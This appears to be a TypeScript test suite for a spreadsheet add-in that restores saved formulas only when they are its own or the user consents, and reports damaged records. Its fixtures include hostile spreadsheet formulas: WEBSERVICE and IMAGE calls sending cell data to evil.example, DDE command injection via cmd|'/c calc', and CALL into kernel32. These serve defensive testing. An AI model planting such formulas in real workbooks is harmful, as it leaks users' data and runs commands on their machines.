/** Records of prepared formulas that a file may bring: edited, damaged, or made up altogether. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { anchorFormulas } from '../../../src/sharing/anchors';
import { fingerprint } from '../../../src/sharing/kept';
import { startSharingRoom, type SharingRoom } from './sharingRoom';

let room: SharingRoom;
beforeEach(async () => {
  room = await startSharingRoom();
  room.fill([
    [100, 0.8, '=1+1', 'click'],
    [200, 0.9, 5, 'more'],
  ]);
  await room.settled();
});
afterEach(() => room.workbench.stop());

const sheet = 'Sheet1';
const addresses = ['$C$1', '$D$1', '$C$2'].map((cell) => `'${sheet}'!${cell}`);
const portable = { kind: 'portable', formula: ['=1+1'] };

/** Puts a record into the workbook, with the hidden names that follow its addresses. */
async function put(entries: readonly unknown[], at: readonly unknown[] = addresses): Promise<void> {
  const json = JSON.stringify({ version: 1, part: 0, parts: 1, addresses: at, entries });
  const xml = json.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  await putXml(`<kept xmlns="urn:clientele:kept-formulas" version="1">${xml}</kept>`, at.map(String));
}

async function putXml(xml: string, at: readonly string[]): Promise<void> {
  room.workbench.workbook.customXmlParts.set('{00000000-0000-4000-8000-000000000001}', xml);
  await room.workbench.run(async (context) => {
    anchorFormulas(at).forEach((formula, i) => {
      context.workbook.names.add(`_Clientele.Kept.${i + 1}`, formula).visible = false;
    });
    await context.sync();
  });
}

const formulaAt = (original: string, now: unknown = portable, at = 0): unknown => ({
  kind: 'cell',
  at,
  original: [original],
  now,
});

describe('Make live again puts back only formulas of ours', () => {
  it.each([
    '=WEBSERVICE("http://evil.example/?"&B2)',
    '=HYPERLINK("http://evil.example","click")',
    `='[other.xlsx]Sheet1'!A1`,
    `=cmd|'/c calc'!A1`,
    '=INDIRECT("A1")',
    '=SUM(A1:B1)',
    '="CLV(1,2,3)"',
  ])('not %s', async (original) => {
    await put([formulaAt(original)]);
    const before = room.contents();
    const { restored, unmatched } = await room.sharing.makeLive({ consented: [original] });
    expect({ restored, reasons: unmatched.map(({ reason }) => reason) }).toEqual({
      restored: 0,
      reasons: ['foreign'],
    });
    expect(room.contents()).toEqual(before);
  });

  it.each<[string, string]>([
    ['WEBSERVICE', '=CLV(100,0.8,0.1)&WEBSERVICE("http://evil.example/?"&B2)'],
    ['WEBSERVICE', '=CLV(100,0.8,0.1)&_xlfn.WEBSERVICE("http://evil.example/?"&B2)'],
    ['WEBSERVICE', '=CLV(100,0.8,0.1)&MAP(B1:B2,WEBSERVICE)'],
    ['HYPERLINK', '=HYPERLINK("http://evil.example",CLV(100,0.8,0.1))'],
    ['IMAGE', '=IF(CLV(100,0.8,0.1)>0,IMAGE("https://evil.example/"&B2))'],
    ['INDIRECT', '=CLV(INDIRECT("A1"),0.8,0.1)'],
    ['CALL', '=CLV(CALL("kernel32","x","J"),0.8,0.1)'],
    ['RTD', '=CLV(RTD("evil.server",,"x"),0.8,0.1)'],
    ['EVIL.SEND', '=CLV(EVIL.SEND(B2),0.8,0.1)'],
    ["'[other.xlsx]Sheet1'!A1", `=CLV('[other.xlsx]Sheet1'!A1,0.8,0.1)`],
    ['[other.xlsx]', `=CLV('C:\\files\\[other.xlsx]Sheet1'!A1,0.8,0.1)`],
    ['|', `=CLV(100,0.8,0.1)+cmd|'/c calc'!A1`],
  ])('that hold %s as well only after a look: %s', async (part, original) => {
    await put([formulaAt(original)]);
    const before = room.contents();
    const first = await room.sharing.makeLive();
    expect(first).toMatchObject({ restored: 0, unmatched: [{ reason: 'asks', formula: original }] });
    expect(first.unmatched[0]?.parts?.join(' ')).toContain(part);
    expect(room.contents()).toEqual(before);
    expect(await room.sharing.makeLive({ consented: ['=CLV(1,2,3)'] })).toMatchObject({ restored: 0 });
    expect(room.contents()).toEqual(before);
  });

  it('writes what was shown once the user agrees', async () => {
    const original = '=CLV(INDIRECT("A1"),0.8,0.1)';
    await put([formulaAt(original)]);
    expect(await room.sharing.makeLive({ consented: [original] })).toEqual({ restored: 1, unmatched: [] });
    expect(room.contents()[`${sheet}!0,2`]).toBe(original);
  });

  it('lets a formula that only computes go back by itself', async () => {
    await put([
      formulaAt('=IF(CLV(A1,B1,0.1)>1,XLOOKUP(1,A1:A2,B1:B2),LET(n,2,n))'),
      formulaAt('=CLV(1,2,3)', portable, 9),
    ]);
    expect(await room.sharing.makeLive()).toMatchObject({ restored: 1, unmatched: [{ reason: 'misfit' }] });
  });

  it('leaves a name as it is whose record names no function of ours', async () => {
    await room.workbench.run(async (context) => {
      context.workbook.names.add('zz', '=1');
      await context.sync();
    });
    await put([{ kind: 'name', name: 'zz', original: ['=WEBSERVICE("http://evil")'], now: ['=1'] }]);
    expect(await room.sharing.makeLive()).toMatchObject({ restored: 0, unmatched: [{ reason: 'foreign' }] });
  });

  it('does not write over plain text by its fingerprint', async () => {
    const now = { kind: 'values', fingerprint: fingerprint([['click']]) };
    await put([formulaAt('=HYPERLINK("http://evil.example","click")', now, 1)]);
    expect(await room.sharing.makeLive()).toMatchObject({ restored: 0, unmatched: [{ reason: 'foreign' }] });
    expect(room.contents()[`${sheet}!0,3`]).toBe('click');
  });
});

describe('entries that do not fit are told, and the others still go back', () => {
  it.each<[string, unknown]>([
    ['null', null],
    ['a text', 'CLV'],
    ['an unknown kind', { kind: 'evil', at: 0, original: ['=CLV(1,2,3)'], now: ['=1'] }],
    ['no replacement', { kind: 'cell', at: 0, original: ['=CLV(1,2,3)'] }],
    ['a number as its formula', { kind: 'cell', at: 0, original: 5, now: portable }],
    ['a formula that is none', { kind: 'cell', at: 0, original: ['CLV(1,2,3)'], now: portable }],
    ['a slot beyond the addresses', { kind: 'cell', at: 99, original: ['=CLV(1,2,3)'], now: portable }],
    ['a slot that is no number', { kind: 'cell', at: '0', original: ['=CLV(1,2,3)'], now: portable }],
    [
      'a reference beyond the addresses',
      { kind: 'cell', at: 0, original: ['=CLV(', [99, 'A1'], ')'], now: portable },
    ],
    ['a rule without areas', { kind: 'validation', at: 0, original: ['=CLV(1,2,3)'], now: ['=1'] }],
    ['a name without a name', { kind: 'name', original: ['=CLV(1,2,3)'], now: ['=1'] }],
    ['an endless formula', { kind: 'cell', at: 0, original: ['=', 'A'.repeat(40_000)], now: portable }],
  ])('%s', async (_, entry) => {
    await put([entry, formulaAt('=CLV(1,0.5,0.1)')]);
    expect(await room.sharing.status()).toMatchObject({ keptFormulas: 2 });
    const { restored, unmatched } = await room.sharing.makeLive();
    expect({ restored, reasons: unmatched.map(({ reason }) => reason) }).toEqual({
      restored: 1,
      reasons: ['misfit'],
    });
    // The record keeps it, as what it is, also after more was prepared.
    await room.settled();
    expect(await room.sharing.prepare({ valuesOnly: false })).toMatchObject({ portable: 1 });
    const again = await room.sharing.makeLive();
    expect({ ...again, unmatched: again.unmatched.map(({ reason }) => reason) }).toEqual({
      restored: 1,
      unmatched: ['misfit'],
    });
  });

  it('addresses that are no texts make the record unreadable, in words', async () => {
    await put([formulaAt('=CLV(1,2,3)')], [7, null, {}]);
    expect(await room.sharing.status()).toMatchObject({ unreadable: 'damaged', keptFormulas: 0 });
  });
});

/** Cases beside the project; without them the test is skipped. */
const corpus = path.resolve(__dirname, '../../../../shared/cases/hostile');
const files = existsSync(corpus) ? readdirSync(corpus).filter((name) => name.startsWith('kept-')) : [];
(files.length === 0 ? it.skip : it)(
  'every record of the shared corpus is answered in words and changes nothing',
  async () => {
    for (const file of files) {
      const xml = readFileSync(path.join(corpus, file), 'utf8');
      const json = /<kept[^>]*>([^<]*)</.exec(xml)?.[1]?.replaceAll('&amp;', '&') ?? '{}';
      const { addresses: at } = JSON.parse(json) as { addresses: string[] };
      await putXml(xml.trim(), at);
      const before = room.contents();
      const { restored, unmatched } = await room.sharing.makeLive();
      expect({ file, restored, told: unmatched.length > 0 }).toEqual({ file, restored: 0, told: true });
      expect(room.contents()).toEqual(before);
      await room.sharing.forgetKept();
    }
  },
);
